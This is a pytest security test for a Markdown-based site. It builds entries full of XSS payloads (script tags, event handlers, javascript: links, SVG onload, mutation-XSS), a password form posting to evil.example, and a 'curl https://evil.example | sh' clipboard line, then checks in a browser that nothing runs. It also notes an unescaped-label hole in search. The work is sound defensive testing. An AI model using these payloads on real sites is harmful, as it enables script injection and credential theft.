"""Hostile content: entries written to attack readers run nothing, load nothing, post nowhere.

Entry bodies are Markdown from strangers, and titles, summaries and names are plain text that
must be shown literally. A copy of the project gets one practice and one actor carrying the
usual attacks (script tags, event handlers, attr_list handlers, javascript: and data: links,
iframes, SVG with script and onload, a form posting elsewhere, a tracking image, a noscript
mutation, a spoofed Material config, a title that closes the JSON-LD <script>), and a taxonomy
term gets a label with HTML; the copy is built, every page that shows them is opened in
Chromium, and they are searched in the header and in the explorer.

Nothing may run: no dialog opens, the `window.__pwned` probe (a setter every payload would
trip, in any frame) stays untouched, and no request leaves 127.0.0.1 (every request is routed;
any other host is recorded and aborted). Each page is checked twice: as published, under the
Content-Security-Policy, and with the policy bypassed, so the HTML sanitiser
(atlas/site/sanitize.py) is shown to hold on its own.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import material
import pytest

from tests.sitetools import REPO, copy_project

from .browsertools import build_site, serve, wait_for_explorer, watch_context

SLUG = "hostile-entry"
ACTOR = "evil-org"
TITLE = "</script><script>window.__pwned='title';alert('title')</script> Hostile <b>entry</b>"
SUMMARY = (
    "A summary with <img src=x onerror=\"window.__pwned='summary'\"> and "
    "<script>alert('summary')</script> markup that must be shown literally."
)
ACTOR_NAME = "<img src=x onerror=\"window.__pwned='actor-name'\">Evil <b>Org</b>"
THEME_LABEL = "<img src=x onerror=\"window.__pwned='theme-label'\">Evil theme"
EVIL_TERM = f"""themes:
  - id: evil-theme
    label: {json.dumps(THEME_LABEL)}
    description: A term whose label carries HTML (taxonomy.yml comes by pull request too).
"""

PRACTICE = f"""---
title: {json.dumps(TITLE)}
summary: {json.dumps(SUMMARY)}
typologies: [project-based]
themes: [tvet]
dimensions: [skills]
status: pilot
evidence: reported
actors:
  - {{actor: {ACTOR}, role: lead}}
countries:
  origin: [SN]
sources:
  - title: "<script>window.__pwned='source'</script> a source"
    url: https://example.org/source
last_reviewed: 2026-11-01
---

## Overview

<script>window.__pwned = 'script'; alert('script');</script>

<img src="x" onerror="window.__pwned='onerror'; alert('onerror')">

A paragraph with a click handler.
{{: onclick="window.__pwned='attr-list'" onmouseover="window.__pwned='attr-list'" }}

A paragraph that claims Material's config.
{{: #__config }}

[A javascript: link](javascript:window.__pwned='md-js-link') and
[a data: link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and
[a link with a handler](https://example.org/){{: onclick="window.__pwned='md-link-handler'" }}.

<a href="javascript:window.__pwned='raw-js-link'">raw javascript link</a>
<a href=" JaVaScRiPt:window.__pwned='raw-js-link-2'">spaced javascript link</a>
<a href="https://example.org/" target="_blank" onfocus="window.__pwned='onfocus'">a new tab</a>

<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>

<svg><script>window.__pwned='svg-script'</script><circle r="5"/></svg>
<svg onload="window.__pwned='svg-onload'"><circle r="5"/></svg>
<svg><a href="javascript:window.__pwned='svg-link'"><text y="20">svg link</text></a></svg>

<form action="https://evil.example/steal" method="post">
<input name="password" type="password"><button>Sign in</button></form>
<form action="//evil.example/steal"><button formaction="https://evil.example/">Go</button></form>

<img src="https://evil.example/pixel.png" alt="tracking pixel">
<img src="//evil.example/pixel.png" alt="protocol-relative pixel">

<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body {{ background: url(https://evil.example/bg.png) }}</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/">

<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></p></noscript>

<div id="__config">{{"base": "https://evil.example/", "features": ["navigation.instant"],
"search": "https://evil.example/worker.js", "translations": {{}}}}</div>
<label for="__search">a label that opens the search</label>
<input type="radio" name="__palette" id="__palette_0">
<button data-clipboard-text="curl https://evil.example | sh">Copy the install command</button>

<details open ontoggle="window.__pwned='ontoggle'"><summary>details</summary>x</details>

<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">

## Results

Nothing runs.
"""

LABELLED = f"""---
title: A practice filed under a suspicious label
summary: An ordinary practice whose only oddity is a theme label that carries HTML.
typologies: [project-based]
themes: [evil-theme]
dimensions: [skills]
status: pilot
evidence: reported
actors:
  - {{actor: {ACTOR}, role: partner}}
countries:
  origin: [SN]
sources:
  - title: A source
    url: https://example.org/labelled
last_reviewed: 2026-11-01
---

## Overview

Plain text.
"""

ACTOR_FILE = f"""---
name: {json.dumps(ACTOR_NAME)}
type: civil-society
scope: global
summary: "An actor whose name and summary carry HTML: <script>window.__pwned='actor'</script>."
---

Actor body <script>window.__pwned = 'actor-body'</script>
with <img src="x" onerror="window.__pwned='actor-img'">.
"""

# Every page that shows the entries: their own, and the lists, indexes and maps that name them.
PAGES = [
    f"practices/{SLUG}/",
    f"actors/{ACTOR}/",
    "practices/labelled-entry/",
    "",
    "practices/",
    "actors/",
    "themes/tvet/",
    "themes/evil-theme/",
    "themes/",
    "taxonomy/",
    "typologies/project-based/",
    "countries/sn/",
    "regions/western-africa/",
    "status/pilot/",
    "evidence/reported/",
    "actor-types/civil-society/",
]

# Trips on any attempt to set the probe, from this document or a child frame.
PROBE = """
(() => {
  const tripped = [];
  Object.defineProperty(window, "__pwnedLog", {value: tripped});
  Object.defineProperty(window, "__pwned", {
    get: () => undefined,
    set: (value) => { tripped.push(String(value)); },
  });
})();
"""


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    project = copy_project(tmp_path_factory.mktemp("hostile"))
    taxonomy = project / "content" / "taxonomy.yml"
    text = taxonomy.read_text(encoding="utf-8")
    assert text.count("\nthemes:\n") == 1
    taxonomy.write_text(text.replace("\nthemes:\n", "\n" + EVIL_TERM, 1), encoding="utf-8")
    (project / "content" / "practices" / f"{SLUG}.md").write_text(PRACTICE, encoding="utf-8")
    (project / "content" / "actors" / f"{ACTOR}.md").write_text(ACTOR_FILE, encoding="utf-8")
    (project / "content" / "practices" / "labelled-entry.md").write_text(LABELLED, "utf-8")
    site = build_site(project, project / "build" / "site")
    with serve(site) as url:
        yield url


@pytest.fixture(params=["with the policy", "without the policy"])
def hostile(request, new_context, hostile_url: str):
    """A page on the hostile site, as published or with the CSP bypassed, probed and watched."""
    context = new_context(bypass_csp=request.param == "without the policy")
    context.add_init_script(PROBE)
    watch = watch_context(context)
    page = context.new_page()
    yield page, watch, hostile_url
    # Broken images and the policy's refusals are logged as console errors: expected here.
    # What must not happen: an uncaught exception (Material choking on a spoofed config, say),
    # a dialog, a request elsewhere, or the probe being set.
    assert watch.exceptions == []
    assert watch.dialogs == []
    assert watch.outside == []


def tripped(page) -> list[str]:
    found = []
    for frame in page.frames:
        try:
            found += frame.evaluate("window.__pwnedLog || []")
        except Exception as exc:  # a frame the page should not have: report it
            found.append(f"frame {frame.url}: {exc}")
    return found


POKE = """() => {
  const selectors = ["p", "a", "span", "details > summary", "svg", "label", "img", "input"];
  let poked = 0;
  for (const element of document.querySelectorAll(
      selectors.map((s) => "article " + s).join(", "))) {
    for (const type of ["mouseover", "mouseenter", "focus", "focusin"]) {
      element.dispatchEvent(new Event(type, {bubbles: true}));
    }
    if (typeof element.focus === "function") element.focus();
    if (!element.closest("a[href], form")) {  // following a link or sending a form: not here
      element.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
    }
    poked += 1;
  }
  return poked;
}"""


def poke(page) -> None:
    """Do what a reader does to what is there: point at it, focus it, click it (the events go
    to each element itself, not to a link that happens to lie under the pointer), then move
    the focus through the page with the keyboard."""
    assert page.evaluate(POKE) > 20
    for _ in range(8):
        page.keyboard.press("Tab")


def test_nothing_runs_on_any_page(hostile) -> None:
    page, watch, url = hostile
    for path in PAGES:
        page.goto(url + path)
        page.wait_for_load_state("load")
        assert page.url == url + path, f"{path} navigated away (a refresh or a base?)"
        if path == f"practices/{SLUG}/":
            poke(page)
            assert page.url.startswith(url + path), "a click left the page"
        assert tripped(page) == [], path
    assert watch.dialogs == []


def test_the_markup_is_inert(hostile) -> None:
    """What the sanitiser left: no script, handler, frame or plugin; links and forms stay home."""
    page, _, url = hostile
    page.goto(url + f"practices/{SLUG}/")
    found = page.evaluate(
        """() => {
        const article = document.querySelector("article");
        const all = [...article.querySelectorAll("*")];
        return {
          elements: all.filter(e => ["SCRIPT", "IFRAME", "OBJECT", "EMBED", "LINK", "STYLE",
                                     "BASE", "META", "MATH"].includes(e.tagName.toUpperCase()))
                       .map(e => e.outerHTML.slice(0, 80)),
          handlers: all.flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name))
                                                     .map(a => e.tagName + " " + a.name)),
          links: [...article.querySelectorAll("a[href]")]
                   .map(a => a.getAttribute("href"))
                   .filter(h => !/^(https?:|mailto:|[.]{0,2}\\/|#|[a-z0-9-]+\\/)/i.test(h)),
          forms: [...document.forms].map(f => new URL(f.action).origin)
                   .filter(o => o !== location.origin),
          images: [...document.images].map(i => i.src)
                   .filter(s => s && new URL(s).origin !== location.origin),
          material: [...document.querySelectorAll("[id^='__'], [name^='__']")]
                   .filter(e => article.contains(e)).map(e => e.outerHTML.slice(0, 80)),
          clipboard: article.querySelectorAll("[data-clipboard-text], [data-md-component]").length,
          configs: document.querySelectorAll("#__config").length,
          dead_links: [...article.querySelectorAll("a:not([href])")]
                   .filter(a => !a.closest("svg")).length,
        };
    }"""
    )
    assert found == {
        "elements": [],
        "handlers": [],
        "links": [],
        "forms": [],
        "images": [],
        "material": [],
        "clipboard": 0,
        "configs": 1,
        "dead_links": 0,
    }


def test_titles_and_names_are_shown_literally(hostile) -> None:
    page, _, url = hostile
    page.goto(url + f"practices/{SLUG}/")
    assert page.locator("article h1").inner_text().startswith(TITLE)
    assert page.locator("article").get_by_text(SUMMARY, exact=True).count() == 1
    assert page.locator(f"article a[href$='actors/{ACTOR}/']").inner_text() == ACTOR_NAME
    assert page.locator("article b").count() == 0
    # The JSON-LD block survives a title that closes <script>, and says exactly the title.
    blocks = page.locator("script[type='application/ld+json']").all_text_contents()
    assert len(blocks) == 1 and json.loads(blocks[0])["name"] == TITLE
    assert page.title().startswith(TITLE)
    page.goto(url + f"actors/{ACTOR}/")
    assert page.locator("article h1").inner_text().startswith(ACTOR_NAME)
    assert tripped(page) == []


def test_searching_shows_the_entry_literally(hostile) -> None:
    """The header search (Material) and the explorer (cards built in JavaScript) both show the
    hostile title as text."""
    page, _, url = hostile
    page.goto(url + "practices/")
    box = page.locator(".md-search__input")
    box.click()
    box.press_sequentially("Hostile", delay=20)
    hit = page.locator(f".md-search-result__item a[href*='practices/{SLUG}/']").first
    hit.wait_for()
    assert "<b>entry</b>" in hit.inner_text()
    assert tripped(page) == []

    page.goto(url + "explore/?q=hostile")
    wait_for_explorer(page)
    card = page.locator(f"#explore-results [data-practice='{SLUG}']")
    assert card.locator("a").first.inner_text() == TITLE
    assert SUMMARY in card.inner_text()
    assert card.locator("b, img, script").count() == 0
    page.check("#explore-theme-tvet")
    page.wait_for_function("() => location.search.includes('theme=tvet')")
    assert card.count() == 1
    assert tripped(page) == []


def test_a_taxonomy_label_in_the_header_search(hostile, request) -> None:
    """Material's search renders a result's tags (our typology and theme labels) as HTML.

    Under the policy an injected handler cannot run; without it, it does: the labels reach
    Material's search index unescaped (atlas/site/pages.py passes them as `tags`), a hole for
    the lead to close there (escape them, or have `atlas check` refuse markup in labels).
    """
    page, _, url = hostile
    page.goto(url + "practices/")
    box = page.locator(".md-search__input")
    box.click()
    box.press_sequentially("suspicious", delay=20)
    page.locator(".md-search-result__item a[href*='practices/labelled-entry/']").first.wait_for()
    page.locator(".md-search-result .md-tag").first.wait_for()
    page.wait_for_function("() => [...document.images].every(i => i.complete)")
    assert tripped(page) == []


# Our copies of Material's templates -------------------------------------------------------------

MATERIAL = Path(material.__file__).resolve().parent / "templates"
THEME_DIR = REPO / "atlas" / "theme"


def _without_comments(template: str) -> str:
    return re.sub(r"\{#.*?#\}\n?", "", template, flags=re.S)


@pytest.mark.parametrize(
    ("template", "theirs", "ours"),
    [
        ("header.html", "{{ page.meta.title }}", "{{ page.meta.title | e }}"),
        (
            "content.html",
            "{{ page.title | d(config.site_name, true)}}",
            "{{ page.title | d(config.site_name, true) | e }}",
        ),
    ],
)
def test_our_partials_are_materials_with_the_title_escaped(template, theirs, ours) -> None:
    """partials/header.html and content.html are Material's but for `| e` on a title: when an
    upgrade changes Material's, this fails, and the copy is made again."""
    mine = _without_comments((THEME_DIR / "partials" / template).read_text(encoding="utf-8"))
    original = _without_comments((MATERIAL / "partials" / template).read_text())
    assert mine.count(ours) == 1 and original.count(theirs) == 1
    assert mine.replace(ours, theirs) == original


def test_our_site_meta_block_covers_materials() -> None:
    """main.html rewrites Material's site_meta and htmltitle blocks (escaping, the policy first);
    every tag Material's blocks emit is in ours, and every value from a page is escaped."""
    base = (MATERIAL / "base.html").read_text()
    ours = (THEME_DIR / "main.html").read_text(encoding="utf-8")

    tag = re.compile(r'<(meta|link|title)(?: (?:name|rel)="([^"{]+)")?')

    def block(text: str, name: str) -> str:
        found = re.search("{% block " + name + " %}(.*?){% endblock %}", text, re.S)
        assert found, f"no {name} block"
        return found.group(1)

    for name in ("site_meta", "htmltitle"):
        theirs_tags = set(tag.findall(block(base, name)))
        our_block = block(ours, name)
        our_tags = set(tag.findall(our_block))
        assert theirs_tags - {("link", "alternate")} <= our_tags, name
        for value in re.findall(r"{{\s*(page\.[^}]*?)\s*}}", our_block):
            assert value.endswith(("| e", "| url")), f"{name}: {value} is not escaped"
